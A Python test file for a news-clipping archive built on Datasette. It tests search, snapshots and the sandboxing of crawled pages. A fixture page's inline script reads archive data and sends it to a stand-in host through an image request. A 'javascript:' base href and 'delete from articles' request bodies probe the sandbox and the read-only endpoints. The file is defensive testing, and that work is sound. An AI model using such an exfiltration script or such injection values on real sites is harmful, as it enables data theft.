"""The archive: Datasette search, facets and canned queries; show, snapshot; the sandbox.

The sandbox is tested on pages of our own that behave like hostile crawled pages
(scripts, root-relative links, their own ``<base>``), crawled into a store and served
by ``rassegna serve`` on 127.0.0.1; ``test_archive_browser.py`` opens them in Chromium.
"""

from __future__ import annotations

import asyncio
import hashlib
import http.client
import json
import os
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import lxml.html
import pytest
from typer.testing import CliRunner

from rassegna import pipeline
from rassegna.archive import datasette_app, with_banner, with_base
from rassegna.campaign import load_campaign
from rassegna.cli import app
from rassegna.demo import site
from rassegna.demo.server import DemoWeb, ProxyWeb, Reply
from rassegna.store import open_store
from tests.sites import as_proxy

DEMO_CAMPAIGN = Path(site.__file__).parent / "data" / "campaign.toml"
runner = CliRunner()

# -- a hostile site, crawled, and the archive served over it -------------------

HOSTILE_HOST = "www.ostile.test"
SCRIPTED_URL = f"http://{HOSTILE_HOST}/2023/10/18/lgnet2-pescara/"
BASED_URL = f"http://{HOSTILE_HOST}/2023/10/19/lgnet2-chieti/"
SCRIPTED_TITLE = "LgNet2 a Pescara, uno sportello per i nuovi cittadini"
#: what the page's scripts do, if they run: each one renames the page
SCRIPT_TITLES = ("script eseguito", "script esterno eseguito", "onload eseguito",
                 "onerror eseguito")
#: where the page's script sends what it read from the archive, if it runs
EXFIL_HOST = "raccolta.test"
_TEXT = (
    "<p>Il progetto LgNet2 ha aperto a Pescara uno sportello per i cittadini stranieri "
    "nella sede del Comune, con due mediatori culturali e un orario pensato per chi "
    "lavora. Lo sportello aiuta a rinnovare i permessi e a cercare casa.</p>"
    "<p>Nelle prime settimane si sono presentate oltre ottanta famiglie, dice l'assessora, "
    "e il servizio resterà aperto anche dopo la fine del progetto.</p>"
)
SCRIPTED = f"""<!DOCTYPE html>
<!-- un commento con <head> non e' la testa della pagina -->
<html lang="it"><head><meta charset="utf-8"><title>{SCRIPTED_TITLE}</title>
<meta property="og:type" content="article">
<meta property="article:published_time" content="2023-10-18">
<link rel="stylesheet" href="/static/sito.css">
<script src="/static/sito.js"></script>
<script>
document.title = "script eseguito";
fetch(location.origin + "/ostile/uscite.json?_shape=array")
  .then(function (r) {{ return r.text(); }})
  .then(function (t) {{
    new Image().src = "http://{EXFIL_HOST}/?dati=" + encodeURIComponent(t.slice(0, 300));
  }});
</script>
</head><body onload="document.title = 'onload eseguito'">
<nav><a href="/">Home</a> <a href="/cronaca/">Cronaca</a></nav>
<article><h1>{SCRIPTED_TITLE}</h1>
<img src="/img/pescara.jpg" alt="Pescara" onerror="document.title = 'onerror eseguito'">
{_TEXT}
<form action="/cerca"><input name="q"></form>
<a href="seconda-pagina/">Continua</a></article></body></html>
""".encode()
BASED = f"""<!DOCTYPE html><html lang="it"><head><meta charset="utf-8">
<base href="/edizione/chieti/">
<title>LgNet2 a Chieti, lo sportello raddoppia</title>
<meta property="og:type" content="article">
<meta property="article:published_time" content="2023-10-19"></head>
<body><article><h1>LgNet2 a Chieti, lo sportello raddoppia</h1>
<img src="foto/chieti.jpg" alt="Chieti"><a href="/">Home</a>
{_TEXT.replace("Pescara", "Chieti")}</article></body></html>
""".encode()
HOSTILE_SITE = {
    SCRIPTED_URL: Reply(body=SCRIPTED),
    BASED_URL: Reply(body=BASED),
    f"http://{HOSTILE_HOST}/static/sito.js": Reply(
        body=b'document.title = "script esterno eseguito";', content_type="text/javascript"
    ),
}
HOSTILE_CAMPAIGN = f"""
[project]
name = "Ostile"
contact = "stampa@comune.test"

[[terms]]
term = "LgNet2"

[period]
start = 2023-10-01
end = 2023-12-31

[sources]
start_urls = ["{SCRIPTED_URL}", "{BASED_URL}"]
"""


def hostile_render(host: str, path: str, headers: dict[str, str]) -> Reply | None:
    """The hostile site's pages (everything else, robots.txt included, is a 404)."""
    return HOSTILE_SITE.get(f"http://{host}{path}")


def crawl_hostile(folder: Path) -> Path:
    """A store (``ostile.db``) with the hostile pages crawled, extracted and archived."""
    campaign_file = folder / "ostile.toml"
    campaign_file.write_text(HOSTILE_CAMPAIGN, encoding="utf-8")
    with as_proxy(ProxyWeb(hostile_render)):
        store = open_store(folder / "ostile.db")
        campaign = load_campaign(campaign_file)
        pipeline.crawl(store, campaign)
        pipeline.extract(store, campaign)
        store.close()
    return folder / "ostile.db"


@dataclass(frozen=True)
class Served:
    """``rassegna serve`` running on a store, and where its log goes."""

    db: Path
    origin: str
    log: Path

    def archived(self) -> dict[str, str]:
        """Original URL -> archive path of every uscita with an archived page."""
        rows = fetch(self, f"/{self.db.stem}/uscite.json?_shape=array&_size=max").json_rows()
        return {row["url"]: row["archived"] for row in rows}


@dataclass(frozen=True)
class Answer:
    status: int
    headers: http.client.HTTPMessage
    body: bytes

    def json_rows(self) -> list[dict[str, Any]]:
        rows: list[dict[str, Any]] = json.loads(self.body)
        return rows


def fetch(served: Served, path: str, method: str = "GET", body: bytes | None = None,
          content_type: str = "application/json") -> Answer:
    """One request to the served archive, straight (never through a proxy), any status."""
    parts = urlsplit(served.origin)
    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=30)
    try:
        headers = {"Content-Type": content_type} if body is not None else {}
        connection.request(method, path, body=body, headers=headers)
        response = connection.getresponse()
        return Answer(response.status, response.headers, response.read())
    finally:
        connection.close()


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The hostile store served by ``rassegna serve`` in its own process."""
    folder = tmp_path_factory.mktemp("hostile")
    db = crawl_hostile(folder)
    yield from serving(db, folder / "serve.log")


def serving(db: Path, log: Path, *options: str, **env_vars: str) -> Iterator[Served]:
    """Run ``rassegna serve --db DB [OPTIONS]`` on a free port until the generator is
    closed, with ``env_vars`` added to its environment."""
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if k.lower() not in ("http_proxy", "no_proxy")}
    env.update(env_vars)
    command = [sys.executable, "-c", "from rassegna.cli import app; app()",
               "serve", "--db", str(db), "--port", str(port), *options]
    with log.open("wb") as sink:
        process = subprocess.Popen(command, stdout=sink, stderr=subprocess.STDOUT, env=env)
    result = Served(db, f"http://127.0.0.1:{port}", log)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                if fetch(result, "/-/versions.json").status == 200:
                    break
            except OSError:
                pass
            assert process.poll() is None, log.read_text()
            assert time.monotonic() < deadline, "rassegna serve did not start in 60 s"
            time.sleep(0.2)
        yield result
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, DemoWeb]]:
    out = tmp_path_factory.mktemp("archive")
    with as_proxy(DemoWeb()) as web:
        store = open_store(out / "demo.db")
        pipeline.run(store, load_campaign(DEMO_CAMPAIGN), out)
        store.close()
        yield out / "demo.db", web


def get(db: Path, path: str) -> Any:
    async def fetch() -> Any:
        response = await datasette_app(db).client.get(path)
        assert response.status_code == 200, (path, response.status_code, response.text[:300])
        return response

    return asyncio.run(fetch())


def titles(db: Path, query: str) -> set[str]:
    rows = get(db, f"/demo/uscite.json?_search={query}&_shape=array&_size=max").json()
    return {row["title"] for row in rows}


def test_search_with_and_without_accents(archive: tuple[Path, DemoWeb]) -> None:
    db, _ = archive
    accented = titles(db, "città")
    assert accented, "the demo uscite speak of città"
    assert titles(db, "citta") == accented
    assert titles(db, "citta'") == accented
    trieste = titles(db, "Trieste")
    assert trieste and trieste != accented  # a search narrows, it does not list all
    assert titles(db, "nessunaparolacosì") == set()


def test_facet_by_testata_counts_uscite(archive: tuple[Path, DemoWeb]) -> None:
    db, _ = archive
    data = get(db, "/demo/uscite.json?_facet=testata&_facet=category").json()
    testate = {f["value"]: f["count"] for f in data["facet_results"]["testata"]["results"]}
    assert testate["Agenzia Penisola"] == 3 and testate["Onda Nordest TV"] == 1
    assert testate["LatinaSera"] == 3  # an outlet only the news search engines led to
    categories = {f["value"]: f["count"] for f in data["facet_results"]["category"]["results"]}
    assert categories["Quotidiani e quotidiani online"] == 11


def test_canned_query_per_testata(archive: tuple[Path, DemoWeb]) -> None:
    db, _ = archive
    rows = get(db, "/demo/testate_per_campagna.json?_shape=array").json()
    by_testata = {row["testata"]: (row["uscite"], row["audience"]) for row in rows}
    assert by_testata["Agenzia Penisola"] == (3, 3 * 152_340)
    assert by_testata["Città Inclusive"] == (2, 0)


def test_canned_query_finds_the_archived_page(archive: tuple[Path, DemoWeb]) -> None:
    db, _ = archive
    rows = get(db, "/demo/pagina_archiviata.json?titolo=Trieste&_shape=array").json()
    assert rows and all("Trieste" in row["title"] for row in rows)
    page = get(db, rows[0]["archived"])
    assert "Copia d&#x27;archivio" in page.text or "Copia d'archivio" in page.text
    assert rows[0]["title"].split(":")[0] in page.text


def test_serving_never_writes(archive: tuple[Path, DemoWeb]) -> None:
    db, _ = archive

    async def write() -> None:
        await datasette_app(db).get_database().execute("delete from articles")

    with pytest.raises(Exception, match="readonly|read-only"):
        asyncio.run(write())


def test_snapshot_equals_the_bytes_fetched(archive: tuple[Path, DemoWeb], tmp_path: Path) -> None:
    db, web = archive
    article = next(a for a in site.ARTICLES if a.about_campaign)
    url = site.article_url(article)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": web.proxy_url}))
    served = opener.open(url).read()
    raw = tmp_path / "raw.html"
    result = runner.invoke(app, ["snapshot", url, "--db", str(db), "--out", str(raw), "--raw"])
    assert result.exit_code == 0, result.output
    assert raw.read_bytes() == served
    banner = tmp_path / "banner.html"
    result = runner.invoke(app, ["snapshot", url, "--db", str(db), "--out", str(banner)])
    assert result.exit_code == 0, result.output
    text = banner.read_bytes()
    assert b"data-rassegna-banner" in text and f'<base href="{url}" />'.encode() in text
    start = text.index(b"<div data-rassegna-banner")
    text = text[:start] + text[text.index(b"</div>", start) + 6 :]
    base = text.index(b"<base ")
    text = text[:base] + text[text.index(b"/>", text.index(b"Content-Security-Policy")) + 2 :]
    assert text == served  # the base, the meta policy and the banner are all we add


def test_show_prints_provenance(archive: tuple[Path, DemoWeb]) -> None:
    db, _ = archive
    article = next(a for a in site.ARTICLES if a.release == "trieste")
    result = runner.invoke(app, ["show", site.article_url(article), "--db", str(db)])
    assert result.exit_code == 0, result.output
    for label in ("titolo", "scaricata", "HTTP", "canonical", "comunicato", "campagne"):
        assert label in result.output
    assert "200" in result.output and "lgnet2" in result.output
    missing = runner.invoke(app, ["show", "http://nowhere.test/x", "--db", str(db)])
    assert missing.exit_code == 1 and "no uscita 'http://nowhere.test/x'" in missing.output


def test_banner_goes_after_body_tag() -> None:
    page = b"<html><head></head><body class='x'><p>caf\xe8</p></body></html>"
    out = with_banner(page, "http://a.test/", "2023-10-18T10:00:00+00:00", 200)
    assert out.startswith(b"<html><head></head><body class='x'><div")
    assert out.endswith(b"<p>caf\xe8</p></body></html>")
    assert b"18/10/2023 10:00 UTC" in out and b"HTTP 200" in out
    banner = out[out.index(b"<div") : out.index(b"</div>")]
    assert banner.decode("ascii")  # accents as references: fits any page encoding


# -- the sandbox ---------------------------------------------------------------


def assert_sandboxed(path: str, headers: Any) -> None:
    """The answer runs no script, has an opaque origin, cannot be framed or sniffed."""
    policy = headers.get("content-security-policy") or ""
    directives = {d.strip().split()[0]: d.strip().split()[1:] for d in policy.split(";")
                  if d.strip()}
    assert "sandbox" in directives and directives["sandbox"] == [], (path, policy)
    assert headers.get("x-content-type-options") == "nosniff", path
    assert headers.get("x-frame-options") == "DENY", path


def test_every_archived_demo_page_is_sandboxed(archive: tuple[Path, DemoWeb]) -> None:
    db, _ = archive

    async def answers() -> list[tuple[str, Any]]:
        client = datasette_app(db).client
        rows = (await client.get("/demo/uscite.json?_shape=array&_size=max")).json()
        paths = sorted({row["archived"] for row in rows if row["archived"]})
        assert len(paths) >= 10
        return [(p, await client.get(p)) for p in [*paths, "/-/archivio/999999"]]

    for path, response in asyncio.run(answers()):
        assert response.status_code == (404 if path.endswith("/999999") else 200), path
        assert_sandboxed(path, response.headers)


def test_served_archived_pages_are_sandboxed(served: Served) -> None:
    archived = served.archived()
    assert set(archived) == {SCRIPTED_URL, BASED_URL}
    for path in archived.values():
        for method in ("GET", "HEAD"):
            answer = fetch(served, path, method)
            assert answer.status == 200, (method, path)
            assert_sandboxed(path, answer.headers)
            assert answer.headers.get_content_type() == "text/html"
    home = fetch(served, "/")
    assert home.status == 200 and home.headers.get("x-frame-options") == "DENY"


def links_of(page: bytes, page_address: str) -> tuple[str, set[str]]:
    """(the page's base URL, every link of the page resolved as a browser resolves it)."""
    document = lxml.html.document_fromstring(page)
    bases = document.xpath("(//base[@href])[1]/@href")
    base = urljoin(page_address, bases[0]) if bases else page_address
    links = {urljoin(base, link) for _, _, link, _ in document.iterlinks()}
    return base, links


def test_served_links_lead_to_the_original_site(served: Served) -> None:
    archived = served.archived()
    page = fetch(served, archived[SCRIPTED_URL]).body
    base, links = links_of(page, served.origin + archived[SCRIPTED_URL])
    assert base == SCRIPTED_URL
    assert {
        f"http://{HOSTILE_HOST}/", f"http://{HOSTILE_HOST}/cronaca/",
        f"http://{HOSTILE_HOST}/img/pescara.jpg", f"http://{HOSTILE_HOST}/static/sito.css",
        f"http://{HOSTILE_HOST}/static/sito.js", f"http://{HOSTILE_HOST}/cerca",
        SCRIPTED_URL + "seconda-pagina/",
    } <= links
    assert {urlsplit(link).netloc for link in links} == {HOSTILE_HOST}

    page = fetch(served, archived[BASED_URL]).body
    base, links = links_of(page, served.origin + archived[BASED_URL])
    assert base == f"http://{HOSTILE_HOST}/edizione/chieti/"  # the page's own base, honoured
    assert f"http://{HOSTILE_HOST}/edizione/chieti/foto/chieti.jpg" in links
    assert {urlsplit(link).netloc for link in links} == {HOSTILE_HOST}


WRITES = [
    ("POST", "/-/create"), ("POST", "/ostile/-/create"), ("POST", "/ostile/articles/-/insert"),
    ("POST", "/ostile/articles/-/upsert"), ("POST", "/ostile/articles/-/drop"),
    ("POST", "/ostile/articles/1/-/delete"), ("POST", "/ostile/articles/1/-/update"),
    ("POST", "/-/permissions"), ("POST", "/ostile"), ("POST", "/ostile/articles"),
    ("POST", "/ostile/testate_per_campagna"), ("POST", "/-/archivio/1"),
    ("POST", "/-/messages"), ("POST", "/-/create-token"), ("POST", "/ostile/-/query"),
    ("PUT", "/ostile/articles"), ("PATCH", "/ostile/articles/1"),
    ("DELETE", "/ostile/articles/1"), ("OPTIONS", "/ostile/articles"),
]


def _digest(db: Path) -> str:
    return hashlib.sha256(db.read_bytes()).hexdigest()


@pytest.mark.parametrize(("method", "path"), WRITES)
@pytest.mark.parametrize("content_type", ["application/json", "application/x-www-form-urlencoded"])
def test_write_endpoints_answer_403(
    served: Served, method: str, path: str, content_type: str
) -> None:
    before = _digest(served.db)
    body = b'{"row": {"title": "x"}, "rows": [{"title": "x"}], "table": "t"}'
    if content_type != "application/json":
        body = b"title=x&sql=delete+from+articles"
    answer = fetch(served, path, method, body=body, content_type=content_type)
    assert answer.status == 403, (method, path, answer.status, answer.body[:200])
    assert b"read-only" in answer.body
    assert answer.headers.get("x-frame-options") == "DENY"
    assert _digest(served.db) == before
    assert "Traceback" not in served.log.read_text(errors="replace")


def test_reads_still_answer_after_refused_writes(served: Served) -> None:
    fetch(served, "/ostile/articles/-/insert", "POST", body=b"{}")
    assert fetch(served, "/ostile/uscite.json?_shape=array").status == 200
    assert fetch(served, "/ostile/nessuna_tabella").status == 404
    assert fetch(served, "/ostile/articles/-/insert").status == 404  # a GET: a 500 before
    assert "Traceback" not in served.log.read_text(errors="replace")


def test_an_error_of_the_archive_is_one_line_in_its_log(served: Served) -> None:
    answer = fetch(served, "/ostile/articles?_sort=nessuna_colonna")
    assert answer.status == 500 and b"Traceback" not in answer.body
    log = served.log.read_text(errors="replace")
    assert "Traceback" not in log
    assert "archive: /ostile/articles:" in log  # what the office's IT needs, in one line


def test_snapshot_is_sandboxed_too(served: Served, tmp_path: Path) -> None:
    target = tmp_path / "pescara.html"
    result = runner.invoke(app, ["snapshot", SCRIPTED_URL, "--db", str(served.db),
                                 "--out", str(target)])
    assert result.exit_code == 0, result.output
    copy = target.read_bytes()
    head = lxml.html.document_fromstring(copy).head
    policy = head.xpath("meta[@http-equiv='Content-Security-Policy']/@content")
    assert policy and "script-src 'none'" in policy[0]
    # before the page's own scripts, which a meta policy only covers when it comes first
    assert copy.index(b"Content-Security-Policy") < copy.index(b"<script")
    base, links = links_of(copy, target.as_uri())
    assert base == SCRIPTED_URL and {urlsplit(link).netloc for link in links} == {HOSTILE_HOST}


@pytest.mark.parametrize(
    ("page", "after", "before"),
    [
        (b"<!DOCTYPE html><!-- <head> --><html><head lang=it><title>t</title>",
         b"<head lang=it>", b"<title>"),
        (b"<html><title>t</title></html>", b"<html>", b"<title>"),  # no <head>
        (b"\xef\xbb\xbf<!doctype html><meta charset=utf-8><p>x", b"<!doctype html>", b"<meta"),
        (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head></head>',
         b"<head>", b"</head>"),
        (b"<p>no head at all", b"", b"<p>"),
        (b"<!DOCTYPE html>\n<!-- <p> -->\n<html lang=it>\n <body>", b"<html lang=it>\n ",
         b"<body>"),
        (b"<!DOCTYPE html>only text", b"only text", b""),
        # markup the standard library's parser refuses: before anything it could not read
        (b"<![if !IE]><script>x()</script><![endif]>", b"<![if !IE]>", b"<script>"),
        (b"<html><![print]><script>x()</script>", b"<html>", b"<![print]>"),
    ],
)
def test_base_goes_first_in_the_head(page: bytes, after: bytes, before: bytes) -> None:
    out = with_base(page, "http://a.test/x/y.html?q=1&r=2")
    inserted = b'<base href="http://a.test/x/y.html?q=1&amp;r=2" />'
    start = out.index(inserted)
    end = out.index(b"/>", out.index(b"Content-Security-Policy")) + 2
    assert out[:start].endswith(after) and out[end:].startswith(before)
    assert out[:start] + out[end:] == page  # the page's own bytes are untouched
    assert out[:3] == page[:3] or not after  # a BOM, a doctype or a declaration stays first


def test_base_of_a_page_with_its_own_base() -> None:
    page = b'<html><head><base href="../sezione/" target="_top"></head></html>'
    assert b'<base href="http://a.test/sezione/" />' in with_base(page, "http://a.test/x/y")
    scripted = b'<html><head><base href="javascript:alert(1)"></head></html>'
    assert b'<base href="http://a.test/x/y" />' in with_base(scripted, "http://a.test/x/y")
